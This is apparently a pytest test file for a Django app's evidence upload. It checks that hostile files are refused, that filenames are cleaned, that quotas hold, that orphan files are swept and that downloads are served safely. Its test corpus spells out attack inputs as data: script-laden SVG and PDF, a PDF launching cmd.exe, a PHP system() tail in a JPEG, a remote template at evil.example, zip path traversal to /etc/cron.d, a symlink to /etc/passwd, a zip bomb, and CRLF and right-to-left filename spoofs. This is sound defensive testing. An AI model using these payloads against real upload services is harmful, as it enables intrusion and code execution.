"""Uploads: a hostile corpus, clean names, quota, and downloads that cannot run (G17)."""

from __future__ import annotations

import io
import os
import time
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.core.files.storage import default_storage
from django.core.management import CommandError, call_command
from django.urls import reverse

from kaohe.campaigns import services
from kaohe.campaigns.errors import FileRefused
from kaohe.campaigns.files import kinds, limit
from kaohe.campaigns.files.names import clean_name
from kaohe.campaigns.models import Evidence
from kaohe.campaigns.services import evidence as evidence_service
from tests.campaigns.conftest import (
    World,
    client_of,
    jpeg_bytes,
    office_bytes,
    pdf_bytes,
    png_bytes,
    upload,
)

SCRIPT = b"<script>alert(1)</script>"
MACRO_TYPES = (
    b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    b"</Types>"
)
REMOTE = (
    b'<Relationships><Relationship Type="http://x/attachedTemplate" '
    b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
LINK = (
    b'<Relationships><Relationship Type="http://x/hyperlink" Target="http://a.example/" '
    b'TargetMode="External"/></Relationships>'
)


def encrypted(data: bytes) -> bytes:
    """The same archive with the encryption bit set everywhere."""
    out = bytearray(data)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            out[at + offset] |= 1
            at = data.find(mark, at + 4)
    return bytes(out)


def symlink(archive: zipfile.ZipFile) -> None:
    info = zipfile.ZipInfo("word/link")
    info.external_attr = 0o120777 << 16
    archive.writestr(info, "/etc/passwd")


def plain_zip(**files: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def bomb() -> bytes:
    """A small file that says it unpacks to 400 MB."""
    data = bytearray(office_bytes(extra={"word/media/image1.png": b"\0" * 1000}))
    at = data.rfind(b"PK\x01\x02")
    data[at + 24 : at + 28] = (400 * 1024 * 1024).to_bytes(4, "little")
    return bytes(data)


def packed(content: bytes) -> bytes:
    """An object stream, as writers of PDF 1.5 and later make them."""
    data = zlib.compress(content + b" " * 300)
    head = b"7 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>" % len(data)
    return head + b"stream\r\n" + data + b"\nendstream endobj"


EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "empty": ("a.pdf", lambda: b""),
    "html named pdf": ("a.pdf", lambda: b"<html>" + SCRIPT),
    "svg with script": ("a.png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT),
    "xml": ("a.docx", lambda: b'<?xml version="1.0"?><a/>'),
    "text": ("a.jpg", lambda: "只是文字".encode()),
    "executable": ("a.pdf", lambda: b"MZ\x90\x00" + b"\0" * 100),
    "eicar": ("a.pdf", lambda: EICAR),
    "old word": ("a.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    "gif": ("a.png", lambda: b"GIF89a" + b"\0" * 30),
    "html then pdf": ("a.pdf", lambda: SCRIPT + pdf_bytes()),
    "pdf then html": ("a.pdf", lambda: pdf_bytes() + SCRIPT),
    "pdf then much": ("a.pdf", lambda: pdf_bytes() + b"\0" * 5000),
    "pdf with script": ("a.pdf", lambda: pdf_bytes(b"3 0 obj<</S/JavaScript/JS(app.alert(1))>>")),
    "pdf that launches": ("a.pdf", lambda: pdf_bytes(b"<</S/Launch/F(cmd.exe)>>")),
    "pdf with a spelt out script": (
        "a.pdf",
        lambda: pdf_bytes(b"3 0 obj<</S/J#61vaScript/#4aS(app.alert(1))>>"),
    ),
    "pdf with a packed script": ("a.pdf", lambda: pdf_bytes(packed(b"<</S/JavaScript/JS(x)>>"))),
    "pdf cut short": ("a.pdf", lambda: pdf_bytes()[:40]),
    "png then html": ("a.png", lambda: png_bytes(tail=SCRIPT)),
    "png then zip": ("a.png", lambda: png_bytes(tail=plain_zip(a=b"x"))),
    "png with html comment": ("a.png", lambda: png_bytes(text=SCRIPT)),
    "png cut short": ("a.png", lambda: png_bytes()[:50]),
    "pixel flood": ("a.png", lambda: png_bytes(60000, 60000)),
    "jpeg with html comment": ("a.jpg", lambda: jpeg_bytes(comment=b"<!DOCTYPE html>" + SCRIPT)),
    "jpeg then php": ("a.jpg", lambda: jpeg_bytes(tail=b"<?php system('id'); ?>")),
    "jpeg then zip": ("a.jpg", lambda: jpeg_bytes(tail=plain_zip(a=b"x"))),
    "jpeg cut short": ("a.jpg", lambda: jpeg_bytes()[:20]),
    "plain zip": ("a.docx", lambda: plain_zip(a=b"x")),
    "nested zip": ("a.docx", lambda: office_bytes(extra={"word/a.zip": plain_zip(a=b"x")})),
    "macro document": ("a.docx", lambda: office_bytes(types=MACRO_TYPES)),
    "hidden macro": ("a.docx", lambda: office_bytes(extra={"word/vbaProject.bin": b"x"})),
    "embedded object": ("a.docx", lambda: office_bytes(extra={"word/oleObject1.bin": b"x"})),
    "html inside": ("a.docx", lambda: office_bytes(extra={"word/a.html": SCRIPT})),
    "remote template": (
        "a.docx",
        lambda: office_bytes(extra={"word/_rels/settings.xml.rels": REMOTE}),
    ),
    "path escape": ("a.docx", lambda: office_bytes(extra={"../../etc/cron.d/x": b"x"})),
    "symlink": ("a.docx", lambda: office_bytes(change=symlink)),
    "zip bomb": ("a.docx", bomb),
    "encrypted": ("a.xlsx", lambda: encrypted(office_bytes("xlsx"))),
    "docx then html": ("a.docx", lambda: office_bytes() + SCRIPT),
    "zip header only": ("a.docx", lambda: b"PK\x03\x04" + b"\0" * 60),
}

HARMLESS: dict[str, tuple[str, bytes, str]] = {
    "pdf": ("报告.pdf", pdf_bytes(), "pdf"),
    "pdf that opens at page one": ("a.pdf", pdf_bytes(b"<</OpenAction[3 0 R/Fit]>>"), "pdf"),
    "pdf with packed objects": ("a.pdf", pdf_bytes(packed(b"<</Type/Page>>")), "pdf"),
    "pdf with a strange stream": ("a.pdf", pdf_bytes(b"<</Type/ObjStm>>stream\nno zlib"), "pdf"),
    "png": ("a.png", png_bytes(), "png"),
    "photo with a trailer": ("a.jpeg", jpeg_bytes(tail=b"SEFT\0\1\2\3"), "jpg"),
    "word": ("a.docx", office_bytes(extra={"word/_rels/document.xml.rels": LINK}), "docx"),
    "excel": ("a.xlsx", office_bytes("xlsx"), "xlsx"),
    "pdf under another name": ("a.exe", pdf_bytes(), "pdf"),
}


def add(world: World, name: str, data: bytes, slot: str = "report") -> Evidence:
    return services.add_evidence(
        world.self_sheet(), file=upload(name, data), slot=slot, actor=world.respondent
    )


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_file_is_refused_and_leaves_nothing(case: str, world: World, media: Path) -> None:
    name, make = HOSTILE[case]

    with pytest.raises(FileRefused) as caught:
        add(world, name, make())

    assert "。" in str(caught.value)
    assert 0 == Evidence.objects.count()
    assert [] == [p for p in media.rglob("*") if p.is_file()]


@pytest.mark.parametrize("case", HARMLESS)
def test_harmless_file_is_kept(case: str, world: World) -> None:
    name, data, kind = HARMLESS[case]

    row = add(world, name, data)

    assert kind == row.kind
    assert data == row.file.read()
    assert f"evidence/{row.pk.hex[:2]}/{row.pk.hex}" == row.file.name


NAMES = {
    "../../etc/passwd": "passwd.pdf",
    "C:\\Users\\a\\报告.pdf": "报告.pdf",
    "a\x00b\r\nSet-Cookie: x.pdf": "abSet-Cookie_ x.pdf",
    "发票\u202efdp.exe": "发票fdp.pdf",
    "CON.pdf": "_CON.pdf",
    "": "材料.pdf",
    " ... ": "材料.pdf",
    "<img src=x>.pdf": "_img src=x_.pdf",
    "e\u0301.pdf": "\u00e9.pdf",
    "好" * 300 + ".pdf": "好" * 80 + ".pdf",
    "年度总结 2025": "年度总结 2025.pdf",
}


@pytest.mark.parametrize("name", NAMES)
def test_name_is_cleaned(name: str) -> None:
    assert NAMES[name] == clean_name(name, kind="pdf")


def test_quota_of_unit_is_kept(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(evidence_service, "QUOTA", 500)
    for n in range(3):
        add(world, "a.pdf", pdf_bytes(b"2" * n))
    assert 3 * len(pdf_bytes()) <= 500 < 4 * len(pdf_bytes())

    with pytest.raises(FileRefused, match="本单位已上传"):
        add(world, "a.pdf", pdf_bytes(b"3"))


def test_same_file_twice_in_a_slot_is_refused(world: World) -> None:
    add(world, "a.pdf", pdf_bytes())

    with pytest.raises(FileRefused, match="同样的文件"):
        add(world, "b.pdf", pdf_bytes())
    add(world, "b.pdf", pdf_bytes(), slot="duty")


def test_file_is_gone_when_the_row_is_not_written(
    world: World, media: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(*args: Any, **kw: Any) -> None:
        raise RuntimeError

    monkeypatch.setattr(evidence_service, "_journal", fail)
    with pytest.raises(RuntimeError):
        add(world, "a.pdf", pdf_bytes())

    assert [] == [p for p in media.rglob("*") if p.is_file()]


def test_orphans_are_swept_and_files_with_rows_stay(world: World, media: Path) -> None:
    from datetime import timedelta

    row = add(world, "a.pdf", pdf_bytes())
    orphan = media / "evidence" / "zz" / "left-behind"
    orphan.parent.mkdir(parents=True)
    orphan.write_bytes(b"x")

    gone = services.sweep_orphans(older_than=timedelta(seconds=-1))

    assert ["evidence/zz/left-behind"] == gone
    assert default_storage.exists(row.file.name)


@pytest.mark.parametrize(
    ("arguments", "left", "said"),
    [
        (["--list"], {"old", "young"}, "可以清除 1 个"),
        ([], {"young"}, "已清除 1 个"),
        (["--older-than=1"], set(), "已清除 2 个"),
    ],
)
def test_command_sweeps_what_is_old_enough(
    arguments: list[str], left: set[str], said: str, world: World, media: Path
) -> None:
    row = add(world, "a.pdf", pdf_bytes())
    folder = media / "evidence" / "zz"
    folder.mkdir(parents=True)
    for name, hours in (("old", 25), ("young", 2)):
        (folder / name).write_bytes(b"x")
        past = time.time() - 3600 * hours
        os.utime(folder / name, (past, past))
    out = io.StringIO()

    call_command("sweep_evidence", *arguments, stdout=out)

    assert {p.name for p in folder.iterdir()} == left
    assert said in out.getvalue()
    assert "evidence/zz/old" in out.getvalue()
    assert default_storage.exists(row.file.name)


def test_command_refuses_an_age_that_would_take_uploads_under_way(db: None) -> None:
    with pytest.raises(CommandError, match="older-than"):
        call_command("sweep_evidence", "--older-than=0")


def test_download_is_an_attachment_of_our_type(world: World) -> None:
    row = add(world, "报告.pdf", pdf_bytes())

    response = client_of(world.respondent).get(reverse("campaigns:evidence", args=[row.pk]))

    assert pdf_bytes() == b"".join(response.streaming_content)
    assert "application/pdf" == response["Content-Type"]
    assert response["Content-Disposition"].startswith("attachment;")
    assert "nosniff" == response["X-Content-Type-Options"]
    assert "default-src 'none'; sandbox" == response["Content-Security-Policy"]
    assert "private, no-store" == response["Cache-Control"]


def test_download_of_somebody_elses_file_is_not_found(world: World) -> None:
    row = add(world, "a.pdf", pdf_bytes())
    url = reverse("campaigns:evidence", args=[row.pk])

    def status(account: Any) -> int:
        return int(client_of(account).get(url).status_code)

    assert 404 == status(world.neighbour)
    assert 404 == status(world.assessor), "before it is handed in"
    assert 200 == status(world.organiser)
    world.hand_in_self()
    assert 200 == status(world.assessor)
    world.assessor.roles.all().delete()
    assert 403 == status(world.assessor), "a revoked role is gone on the next request"


def test_upload_page_names_each_refused_file(world: World) -> None:
    url = reverse("campaigns:sheet_evidence", args=[world.self_sheet().pk])
    files = [upload("好.pdf", pdf_bytes()), upload("坏.pdf", SCRIPT)]

    response = client_of(world.respondent).post(url, {"slot": "report", "files": files})

    assert 422 == response.status_code
    assert "坏.pdf" in response.content.decode()
    assert ["好.pdf"] == [e.name for e in world.self_sheet().evidence.all()]


def test_upload_above_the_limit_is_stopped_early(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(limit, "LARGEST", 100_000)
    url = reverse("campaigns:sheet_evidence", args=[world.self_sheet().pk])
    big = upload("大.pdf", pdf_bytes(b"x" * 300_000))

    response = client_of(world.respondent).post(url, {"slot": "report", "files": [big]})

    assert 422 == response.status_code
    assert "超过 20 MB" in response.content.decode()
    assert 0 == Evidence.objects.count()


def test_upload_above_the_limit_is_refused_by_the_service_too(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(kinds, "LARGEST", 100)

    with pytest.raises(FileRefused, match="超过 20 MB"):
        add(world, "a.pdf", pdf_bytes(b"x" * 200))


def test_upload_to_unknown_slot_is_refused(world: World) -> None:
    with pytest.raises(FileRefused, match="没有选择材料"):
        add(world, "a.pdf", pdf_bytes(), slot="../x")


def test_remove_is_only_for_the_unit(world: World) -> None:
    row = add(world, "a.pdf", pdf_bytes())
    url = reverse("campaigns:evidence_remove", args=[row.pk])

    assert 404 == client_of(world.neighbour).post(url).status_code
    assert 404 == client_of(world.organiser).post(url).status_code
    assert 302 == client_of(world.respondent).post(url).status_code
    assert not Evidence.objects.exists()
    assert not default_storage.exists(row.file.name)


# One file for several items ----------------------------------------------------------------------
